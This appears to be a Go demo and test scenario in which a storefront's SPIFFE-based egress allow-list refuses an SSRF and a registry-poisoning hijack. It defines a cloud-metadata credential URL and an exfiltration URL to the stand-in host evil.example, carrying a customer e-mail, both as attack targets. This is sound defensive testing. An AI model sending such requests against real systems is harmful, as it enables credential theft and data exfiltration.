package main

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"time"

	"github.com/spiffe/go-spiffe/v2/spiffetls/tlsconfig"
	"github.com/spiffe/go-spiffe/v2/svid/x509svid"

	"github.com/ztkit/ztkit/authz/egress"
	"github.com/ztkit/ztkit/tokens/dpop"
)

// storefrontEgress returns the storefront's outbound transport: an egress
// allow-list with two entries and nothing else.
//
//   - checkout at coURL, over SPIFFE mTLS: the server there must present an
//     X509-SVID that w.storefrontServers allows (checkout's SPIFFE ID), and the
//     storefront presents its own;
//   - the identity service at idURL, in plaintext on loopback. Its host is an
//     IP literal, which may only be dialed as that address; a name
//     ("identity.shop.internal") would need Networks to resolve to a private
//     address, since a plaintext destination has no server authentication.
//
// Refusals are logged to logger: endpoint and reason, never a path. The
// scenario builds it a second time with checkout's address from a poisoned
// registry (step 14); the rest of the list is the same.
func storefrontEgress(w *workloads, idURL, coURL string, logger *slog.Logger) (*egress.Transport, error) {
	co, err := destination(coURL)
	if err != nil {
		return nil, err
	}
	co.Server = w.storefrontServers
	id, err := destination(idURL)
	if err != nil {
		return nil, err
	}
	list, err := egress.NewList(co, id)
	if err != nil {
		return nil, err
	}
	d, err := egress.NewDialer(list,
		egress.WithSPIFFE(w.storefrontSVID, w.storefrontBundles),
		egress.WithLogger(logger),
		// Loopback answers at once; a listed server that hangs must not
		// hold the scenario for DefaultDialTimeout.
		egress.WithDialTimeout(5*time.Second))
	if err != nil {
		return nil, err
	}
	return egress.NewTransport(d)
}

// destination is the egress destination of a server's base URL.
func destination(u string) (egress.Destination, error) {
	parsed, err := url.Parse(u)
	if err != nil {
		return egress.Destination{}, err
	}
	return egress.ParseDestination(parsed.Scheme + "://" + parsed.Host)
}

// describeEgress says in words what t's list allows, for the startup lines.
func describeEgress(t *egress.Transport, w *workloads) string {
	var listed string
	for k, d := range t.Dialer().List().Destinations() {
		if k > 0 {
			listed += ", "
		}
		listed += d.String()
		if d.Server != nil {
			listed += " only if the server is " + w.checkoutID.String() + " (checkout)"
		} else {
			listed += " (identity, plaintext)"
		}
	}
	return "storefront: egress allow-list (authz/egress): " + listed + "; anything else is refused"
}

// The SSRF targets of step 13. Their paths and queries must never reach the
// output: the printed error is the *egress.DestinationError, which names the
// endpoint only. The e-mail is the customer's (the test checks it is never
// printed).
const (
	metadataURL = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
	exfilURL    = "https://evil.example/collect?email=ada@example.com"
)

// egressSteps plays steps 13 and 14: the storefront's egress allow-list
// refuses an unlisted destination before connecting, and a listed address
// served by the wrong workload in the TLS handshake. shop is the storefront's
// client, which sends tok with proofs from proofer.
func (s *stage) egressSteps(ctx context.Context, p *printer, shop *http.Client, proofer *dpop.Proofer, tok string) error {
	d := s.egress.Dialer()
	before := d.Refusals()

	p.line("13. An SSRF: the storefront fetches a product-image URL that a merchant supplied, with the client it calls checkout with,")
	p.line("    which adds the customer's token and a DPoP proof to every request. The URL points at")
	for k, target := range []struct{ what, url string }{
		{"the cloud metadata service on 169.254.169.254, for the instance's credentials;", metadataURL},
		{"an exfiltration server, evil.example, with the customer's e-mail in the query.", exfilURL},
	} {
		p.line("    %c. %s", 'a'+k, target.what)
		resp, err := get(ctx, shop, target.url)
		if err == nil {
			_ = resp.Body.Close()
		}
		refused, err := expectRefusal(err, egress.ErrDestinationNotAllowed, egress.ReasonNotListed)
		if err != nil {
			return err
		}
		want, err := url.Parse(target.url)
		if err != nil {
			return err
		}
		if refused.Host != want.Hostname() {
			return fmt.Errorf("expected a refusal for %s, got one for %s", want.Hostname(), refused.Host)
		}
	}
	if n := d.Refusals() - before; n != 2 {
		return fmt.Errorf("expected 2 egress refusals, got %d", n)
	}
	p.line("egress:   %d refusals, nothing dialed; printed: the *egress.DestinationError (endpoint, reason), not the client's *url.Error (the whole URL)", d.Refusals()-before)

	imp, err := s.w.impostor(ctx)
	if err != nil {
		return err
	}
	srv, err := startImpostor(imp.svid)
	if err != nil {
		return err
	}
	defer srv.Close()
	p.line("14. A hijack: a poisoned service registry gives checkout's address as %s, where an impostor presents", srv.url)
	for _, l := range imp.what {
		p.line("    %s", l)
	}
	p.line("    The storefront builds its allow-list as always, expecting %s there.", s.w.checkoutID)
	hijacked, err := storefrontEgress(s.w, s.idURL, srv.url, s.log)
	if err != nil {
		return err
	}
	defer hijacked.CloseIdleConnections()
	fooled := &http.Client{Transport: &dpop.Transport{Base: &recorder{base: hijacked, p: p, who: "storefront"}, Proofer: proofer, Token: staticToken(tok)}}
	resp, err := post(ctx, fooled, srv.url+"/orders")
	if err == nil {
		_ = resp.Body.Close()
	}
	if _, err := expectRefusal(err, egress.ErrServerIdentity, egress.ReasonServerIdentity); err != nil {
		return err
	}
	if imp.cause != nil && !errors.Is(err, imp.cause) {
		return fmt.Errorf("expected the server identity to be refused with %v, got %s", imp.cause, refusalOf(err))
	}
	select {
	case got := <-srv.conns:
		if got.handshake == nil {
			return fmt.Errorf("expected the impostor's TLS handshake to fail, but it completed and received %d bytes", got.received)
		}
		p.line("impostor: TLS handshake failed (%v); it received no request byte: neither the token nor the proof", got.handshake)
	case <-time.After(5 * time.Second):
		return errors.New("the impostor did not report its connection")
	}
	return nil
}

// expectRefusal checks that err, from an http.Client, is an egress refusal
// matching sentinel for reason, and returns it.
func expectRefusal(err, sentinel error, reason egress.Reason) (*egress.DestinationError, error) {
	var refused *egress.DestinationError
	if !errors.Is(err, sentinel) || !errors.As(err, &refused) || refused.Reason != reason {
		// The *url.Error holds the URL: print only whether it was a refusal.
		return nil, fmt.Errorf("expected the storefront's egress to refuse with %s (%v), got another outcome (%s)", reason, sentinel, refusalOf(err))
	}
	return refused, nil
}

// refusalOf describes err without the URL an *url.Error carries.
func refusalOf(err error) string {
	var refused *egress.DestinationError
	switch {
	case err == nil:
		return "no error"
	case errors.As(err, &refused):
		return refused.Error()
	default:
		var ue *url.Error
		if errors.As(err, &ue) {
			return ue.Err.Error()
		}
		return err.Error()
	}
}

// impostorServer is a TLS server on loopback that presents an X509-SVID that
// is not the checkout's, and reports for each connection how its handshake
// ended and, had it succeeded, how many bytes it received.
type impostorServer struct {
	ln    net.Listener
	url   string
	conns chan impostorConn
	done  chan struct{}
}

// impostorConn is what the impostor saw of one connection.
type impostorConn struct {
	handshake error // nil when the handshake succeeded
	received  int
}

// startImpostor listens on a free loopback port and serves svid.
func startImpostor(svid x509svid.Source) (*impostorServer, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	imp := &impostorServer{ln: ln, url: "https://" + ln.Addr().String(), conns: make(chan impostorConn, 4), done: make(chan struct{})}
	cfg := tlsconfig.TLSServerConfig(svid)
	go func() {
		defer close(imp.done)
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			imp.serve(cfg, conn)
		}
	}()
	return imp, nil
}

// serve runs one connection: the handshake, then whatever the client sends
// until it closes or a second passes.
func (imp *impostorServer) serve(cfg *tls.Config, conn net.Conn) {
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	tc := tls.Server(conn, cfg)
	var got impostorConn
	if got.handshake = tc.Handshake(); got.handshake == nil {
		_ = conn.SetReadDeadline(time.Now().Add(time.Second))
		n, _ := io.Copy(io.Discard, tc)
		got.received = int(n)
	}
	select {
	case imp.conns <- got:
	default:
	}
}

// Close stops the impostor.
func (imp *impostorServer) Close() error {
	err := imp.ln.Close()
	<-imp.done
	return err
}
